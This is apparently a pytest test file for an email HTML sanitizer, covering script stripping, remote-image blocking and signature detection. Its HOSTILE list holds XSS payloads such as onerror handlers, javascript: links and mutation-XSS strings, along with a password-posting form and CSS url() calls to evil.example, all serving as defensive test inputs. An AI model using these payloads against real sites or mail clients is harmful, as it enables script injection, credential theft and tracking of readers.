"""S3: of hostile HTML nothing is left that runs, posts, or asks for something remote."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from emails.html import ATTRIBUTES, TAGS, SafeHtml, is_signed, safe_html
from emails.nesting import is_deep
from emails.signing import CLOSES, OPENS, mark_signature
from tests.emails.tricks import ALONE, TRICKS

MARKED = {("div", "class"), ("div", "id"), ("li", "class"), ("p", "class"), ("pre", "class")}
INLINE = {"plan@atelier": "/email/1/attachments/0/"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:\\75rl(https://evil.example/x)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='width:expression(alert(1));behavior:url(x)'>x</div>",
    "<p style='position:fixed;inset:0;z-index:9'>over everything</p>",
    "<img srcset='https://evil.example/x 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<input type=image src='https://evil.example/x'>",
    "<video poster='https://evil.example/x' src='https://evil.example/y'></video>",
    "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "<table background='https://evil.example/x'><tr><td background=//evil.example/x>1</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div id=reader class=toast>takes a name of ours</div>",
]
#: By attribute, values that no browser must see.
UNFIT = {
    "src": re.compile(r"^(?!/email/1/attachments/0/$|data:image/(png|jpeg|gif|webp|bmp);base64,)", re.IGNORECASE),
    "href": re.compile(r"^\s*(?!https?://|mailto:|tel:)", re.IGNORECASE),
    "style": re.compile(r"url|expression|position|\\", re.IGNORECASE),
    "srcset": re.compile(""),
    "background": re.compile(""),
}


class Leftovers(HTMLParser):
    """What a browser would run, post or fetch."""

    def __init__(self, clean: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(clean)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target", "referrerpolicy"}
        for name, value in attrs:
            if name not in allowed and (tag, name) not in {*MARKED, ("blockquote", "type")}:
                self.found.append(f"{tag} {name}")
            if name in UNFIT and UNFIT[name].search(value or ""):
                self.found.append(f"{name} {value}")


def leftovers(clean: str) -> list[str]:
    return Leftovers(clean).found


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_is_left_of_what_is_hostile(hostile: str) -> None:
    clean = safe_html(f"<p>Hello</p>{hostile}<p>Bye</p>", INLINE).html
    assert leftovers(clean) == []
    assert "alert" not in re.sub(r'title="[^"]*"', "", clean)
    assert "<p>Hello</p>" in clean


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "<!--", "-->", "<table>", "</div>", "x", "\x00"]), max_size=8
    )
)
@settings(max_examples=150, deadline=None)
def test_nor_of_any_mixture_of_it(parts: list[str]) -> None:
    assert leftovers(safe_html("".join(parts), INLINE).html) == []


@pytest.mark.parametrize("trick", [*TRICKS, *ALONE])
def test_no_trick_leaves_anything(trick: str) -> None:
    clean = safe_html(f"<p>Hello</p>{trick}<p>Bye</p>", INLINE)
    assert leftovers(clean.html) == []
    assert "<p>Hello</p>" in clean.html


def test_what_mail_is_made_of_stays() -> None:
    html = (
        '<table width="600" bgcolor="#eeeeee"><tr><td align="right" style="color: red; font-size: 12px">24</td></tr>'
        '</table><ul><li>One</li></ul><p dir="rtl">שלום</p>'
    )
    clean = safe_html(html, {}).html
    for part in ('width="600"', 'bgcolor="#eeeeee"', 'align="right"', "color:red", "font-size:12px", 'dir="rtl"'):
        assert part in clean


def test_links_open_elsewhere_and_tell_nothing() -> None:
    clean = safe_html('<a href="https://atelier-lyon.example/gates">Gates</a>', {}).html
    assert 'href="https://atelier-lyon.example/gates"' in clean
    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_pictures_that_come_along_are_shown() -> None:
    assert 'src="/email/1/attachments/0/"' in safe_html('<img src="CID:Plan@Atelier">', INLINE).html
    assert "src=" not in safe_html('<img src="cid:unknown">', INLINE).html


def test_remote_pictures_are_counted_and_wait() -> None:
    html = (
        '<img src="https://t.example/a.gif"><img src="//t.example/b.gif"><table background="http://t.example/c.gif"><td>'
        '<p style="color:red;background:url(https://t.example/d.gif)">x</p>'
    )
    waiting = safe_html(html, {})
    assert waiting.remote == 4
    assert "t.example" not in waiting.html
    loaded = safe_html(html, {}, with_remote=True)
    assert 'src="https://t.example/a.gif"' in loaded.html
    assert 'referrerpolicy="no-referrer"' in loaded.html


@pytest.mark.parametrize(
    ("html", "signed"),
    [
        ('<p>The 4th.</p><div class="gmail_signature" data-smartmail="gmail_signature">Ines</div>', True),
        ('<p>The 4th.</p><pre class="moz-signature" cols="72">-- \nInes</pre>', True),
        ('<p>The 4th.</p><div id="Signature"><p>Ines</p></div>', True),
        ('<img src="cid:plan@atelier"><div class="gmail_signature">Ines</div>', True),
        ('<div class="gmail_signature">Ines</div>', False),
        ('<div class="gmail_signature">Ines</div><div class="gmail_quote">Which day?</div>', False),
        (
            '<div id="Signature">Ines</div><div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From</div><p>x',
            False,
        ),
        ("<p>The 4th.</p><p>-- </p><p>Ines</p>", True),
        ("<div>The 4th.<div>--&nbsp;</div><div>Ines</div></div><p>Lyon</p>", True),
        ('<p>The 4th.</p><p><span style="color: red">--<br></span></p><p>Ines</p>', True),
        ("<div>The 4th.</div><div>-- <br>Ines<br>Lyon</div>", True),
        ("<div>The 4th.<br>--<br>Ines<br>Lyon</div>", True),
        ("The 4th.<br>\n--&nbsp;<br>\nInes", True),
        ("<p>The 4th.</p><p>-- Ines</p>", False),
        ("The 4th.<br>-- <br>Not how one signs.<br>" + "More of it.<br>" * 700, False),
        ("<p>-- </p><p>Ines</p>", False),
        ("<p>The 4th.</p><p>--</p>" + "<p>Not how one signs.</p>" * 500, False),
        ("<p>The 4th.</p><div class=signature>Ines</div>", False),
    ],
)
def test_a_signature_folds_where_something_else_is_said(html: str, signed: bool) -> None:
    assert is_signed(safe_html(html, INLINE).html, with_history=False) is signed


def test_marks_of_quotations_stay_and_no_others() -> None:
    html = '<div class="gmail_quote x">a</div><div id="x" class="y">b</div><blockquote type="cite">c'
    clean = safe_html(html, {}).html
    assert '<div class="gmail_quote">' in clean
    assert '<blockquote type="cite">' in clean
    assert '<div class="">b</div>' in clean


def test_paragraphs_of_outlook_are_known_as_such() -> None:
    clean = safe_html("<style>p.MsoNormal {margin:0}</style><p class='MsoNormal x'>a</p><p class=toast>b</p>", {}).html
    assert clean == '<p class="MsoNormal">a</p><p class="">b</p>'


@pytest.mark.parametrize(
    "href", ["https:/mail.example/a", "https:mail.example", "http:\\\\mail.example", "javascript:1"]
)
def test_links_that_are_none_lead_nowhere(href: str) -> None:
    assert "href" not in safe_html(f'<a href="{href}">x</a>', {}).html


@pytest.mark.parametrize(
    "declaration",
    [
        *("min-height:100vh", "height: 50.5DVH", "padding-top:1svh", "margin:2lvh", "width:3vmax", "font-size:9vmin"),
        *("height:1vb", "height:1cqh", "height:99999px", "font-size:1e9px", "margin-top:-40px", "margin: 0 -.5em"),
        "margin:calc(0px - 9px)",
    ],
)
def test_nothing_grows_without_end_or_lies_on_what_is_ours(declaration: str) -> None:
    clean = safe_html(f'<div style="color:red;{declaration}"><table height="99999" width="600">', {}).html
    assert '<div style="color:red">' in clean
    assert '<table width="600">' in clean


def test_ordinary_sizes_and_colours_stay() -> None:
    style = "margin:0 auto;margin-left:5px;width:33.5%;color:#112345;max-width:100vw;height:9999px"
    clean = safe_html(f'<p style="{style}">x</p>', {}).html
    for declaration in style.split(";"):
        assert declaration in clean.replace(": ", ":")


class TestNesting:
    """S3: what nests without end costs the square of it, so it is never taken apart."""

    @pytest.mark.parametrize(
        "hostile",
        [
            *("<div>", "<b>", "<table>", "<table><td>", "<DIV\n>", "<p><b><div>", "<div x='>'>", "<x><!-- </x> -->"),
            *(
                "<x><p></x></p>",
                "<x><div></x></div>",
                '<x a="></x>">',
                "<x><style></x></style>",
                "<!--><x></x><x><!---->",
            ),
            *("<!--x--!><x><!---->", "<svg><td>", "<select><title></select><i>"),
        ],
    )
    def test_without_end_leaves_nothing_and_asks_nobody(self, hostile: str, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(nh3, "clean", lambda *_args, **_named: pytest.fail("It was taken apart."))
        assert safe_html(hostile * 200_000, INLINE) == SafeHtml("", remote=0)

    def test_nor_do_formats_that_each_paragraph_opens_anew(self) -> None:
        formats = "".join(f"<font size={number}>" for number in range(400))
        assert safe_html(formats + "<p>x" * 2_000, {}).html == ""

    @pytest.mark.parametrize(
        "mail",
        [
            *(
                "<p>One",
                "<ul><li>One<li><p>Two</ul>",
                "<table><tr><td>1<td><b>2</b><tr><th>3</table>",
                "<br>",
                "<b>x</b>",
            ),
            *("<p><a href='https://a.example/?b=1&c=\"2\"'><img src=x></a></p>", "<dl><dt>a<dd>b<dt>c</dl>", "1 < 2 "),
            "<!--[if mso]><table><tr><td><![endif]--><div>x</div><!--[if mso]></td></tr></table><![endif]-->",
            "<p class=MsoNormal><b><span>x<o:p>&nbsp;</o:p></b></span></p><style><!-- p {} --></style>",
        ],
    )
    def test_what_is_long_is_not_deep(self, mail: str) -> None:
        assert not is_deep("<html><body>" + mail * 400)

    def test_nor_is_a_long_conversation(self) -> None:
        html = "<p>I agree.</p><blockquote><div>" * 200 + "<p>Which day?</p>" * 500 + "</div></blockquote>" * 200
        assert safe_html(html, {}).html.count("I agree.") == 200


def test_a_signature_told_by_its_dashes_ends_where_the_quoted_begins() -> None:
    """And what was quoted keeps its own."""
    quoted = '<div class="gmail_quote">On Monday: <blockquote><p>Hi</p><p>--</p>Bob</blockquote></div>'
    clean = safe_html(f"<p>The 4th.</p><p>--</p><p>Ines</p>{quoted}", {}).html
    assert clean == f'<p>The 4th.</p><div class="moz-signature"><p>--</p><p>Ines</p></div>{quoted}'


@pytest.mark.parametrize(
    ("html", "marked"),
    [
        ("<div>A</div><div>-- <br>Ines</div><p>Lyon</p>", "<div>A</div>[<div>-- <br>Ines</div><p>Lyon</p>]"),
        (
            "<div><div>A</div><div>--<br>Ines</div></div><p>B</p>",
            "<div><div>A</div>[<div>--<br>Ines</div>]</div><p>B</p>",
        ),
        ("<div>A<br>--<br>Ines</div><p>B</p>", "<div>A<br>[--<br>Ines]</div><p>B</p>"),
        ("A<br>--<br>B<br>--<br>Ines", "A<br>--<br>B<br>[--<br>Ines]"),
        (
            'A<br>--<br>Ines<blockquote type="cite">B<br>--<br>Bob</blockquote>',
            'A<br>[--<br>Ines]<blockquote type="cite">B<br>--<br>Bob</blockquote>',
        ),
    ],
)
def test_a_signature_begins_with_its_dashes_and_ends_with_what_they_stand_in(html: str, marked: str) -> None:
    assert mark_signature(html) == marked.replace("[", OPENS).replace("]", CLOSES)


PIECES = st.sampled_from(["<div>", "</div>", "<p>", "</p>", "<b>", "</b>", "<br>", "--", " ", "&nbsp;", "<blockquote>"])


@given(st.lists(PIECES, max_size=30).map("".join))
def test_marking_a_signature_leaves_what_is_said_and_well_nested(mail: str) -> None:
    """S3."""
    allowed: dict[str, Any] = {"tags": {"div", "p", "b", "br", "blockquote"}, "attributes": {"div": {"class"}}}
    clean = nh3.clean(mail, **allowed)
    marked = mark_signature(clean)
    assert nh3.clean(marked, **allowed) == marked
    assert re.sub("<[^>]*>", "", marked) == re.sub("<[^>]*>", "", clean)
